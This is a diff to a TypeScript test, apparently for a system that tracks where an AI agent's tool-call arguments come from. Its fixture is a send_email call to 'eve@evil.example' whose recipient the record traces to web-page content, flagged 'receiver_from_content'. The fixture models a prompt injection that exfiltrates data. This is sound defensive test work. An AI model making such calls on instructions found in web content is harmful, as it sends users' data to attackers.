@@ -151,7 +151,11 @@ test('a run has one name in all its requests, another one in another run and for
 });
 
 test('the record tells where each value of a call comes from, and nothing of what it is', () => {
+  const strings = { type: 'array', items: { type: 'string' } };
   const body = {
+    tools: [
+      { type: 'function', name: 'send_email', parameters: { type: 'object', properties: { to: strings, body: { type: 'string' } } } },
+    ],
     input: [
       { role: 'user', content: ASK },
       { type: 'function_call', call_id: READ.id ?? '', name: READ.name, arguments: READ.arguments },
@@ -159,7 +163,11 @@ test('the record tells where each value of a call comes from, and nothing of wha
     ],
   };
   const asked = flow(memory(), body);
-  const call: AskedCall = { name: 'send_email', arguments: '{"body":"40","to":["bob@north.example","eve@evil.example"]}', id: 'call_2' };
+  const call: AskedCall = {
+    name: 'send_email',
+    arguments: '{"body":"40","to":["bob@north.example","eve@evil.example"],"4 Elm Road":"40"}',
+    id: 'call_2',
+  };
   asked.findings(call, 7);
   const { calls, messages } = asked.record();
   assert.deepEqual(
@@ -176,7 +184,8 @@ test('the record tells where each value of a call comes from, and nothing of wha
       ['to[1]', 'email', 'prose', 2, 'get_webpage', ['receiver_from_content']],
       ['body', 'number', 'prose', 2, 'get_webpage', []],
       ['to[0]', 'email', 'user', 0, undefined, []],
+      ['?', 'number', 'prose', 2, 'get_webpage', []],
     ],
   );
-  assert.ok(!JSON.stringify(asked.record()).includes('example'), 'no text');
+  assert.ok(!JSON.stringify(asked.record()).includes('example') && !JSON.stringify(asked.record()).includes('Elm'), 'no text');
 });
